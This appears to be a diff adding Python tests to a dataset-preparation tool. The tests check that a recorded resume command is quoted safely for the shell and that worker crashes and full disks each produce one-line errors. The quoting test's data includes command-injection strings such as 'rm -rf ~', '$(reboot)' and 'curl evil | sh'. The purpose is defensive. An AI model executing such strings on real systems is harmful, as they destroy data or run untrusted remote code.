@@ -222,3 +222,70 @@ def test_broken_images_are_an_error_or_are_skipped_and_counted(folder, tmp_path,
     source = sources.open_source(f"records:{tmp_path / 'other'}", "train", None)
     assert source.records.labels(None).tolist() == [0, 1, 1]
     assert json.loads((tmp_path / "other" / "index.json").read_text())["sizes"]["train"] == 4
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        (
+            "python -m cv_jax prepare digits --to 'a b'",
+            "python -m cv_jax prepare digits --to 'a b'",
+        ),
+        ("python -m cv_jax prepare x; rm -rf ~", "python -m cv_jax prepare 'x;' rm -rf '~'"),
+        ("python -m cv_jax prepare $(reboot) '", "python -m cv_jax prepare '$(reboot)' ''\"'\"''"),
+        ("curl evil | sh", "python -m cv_jax prepare SOURCE --to {}"),
+        (None, "python -m cv_jax prepare SOURCE --to {}"),
+    ],
+)
+def test_a_recorded_command_is_inert_in_a_shell(tmp_path, command, shown):
+    """Users paste it; a stranger may have written the index."""
+    (tmp_path / "index.json").write_text(json.dumps({"finished": False, "command": command}))
+    with pytest.raises(InputError) as caught:
+        records.read_index(tmp_path)
+    assert str(caught.value) == f"{tmp_path} is incomplete; resume with: {shown.format(tmp_path)}"
+
+
+KILL = """
+import os, signal, sys
+from cv_jax.data import records
+records.checksum = lambda file: os.kill(os.getpid(), signal.SIGKILL)
+"""
+FULL = """
+import resource, signal, sys
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+resource.setrlimit(resource.RLIMIT_FSIZE, (3000, 3000))
+"""
+CALL = """
+from cv_jax import __main__ as program
+if __name__ == "__main__":
+    sys.exit(program.main(sys.argv[1:]))
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("fault", "message"),
+    [
+        (KILL, "a worker process was killed; resume with: python -m cv_jax prepare folder:"),
+        (FULL, "train-00000-of-00001.array_record cannot be written: "),
+    ],
+)
+def test_a_killed_worker_and_a_full_disk_are_one_line(folder, tmp_path, fault, message):
+    """A file-size limit makes a write fail like a full disk."""
+    (tmp_path / "script.py").write_text(fault + CALL)
+    out = tmp_path / "out"
+    words = ["prepare", f"folder:{folder}", "--to", str(out), "--workers=1", "--raw"]
+    done = subprocess.run(
+        [sys.executable, str(tmp_path / "script.py"), *words],
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert done.returncode == 1, done.stderr
+    assert done.stderr.startswith("error: ")
+    assert message in done.stderr
+    assert done.stderr.count("\n") == 1
+    assert not list(out.glob("*.array_record"))
+    assert program.main(words) == 0  # the remedy
+    assert len(records.open_records("x", out, "train+val").records) == 8
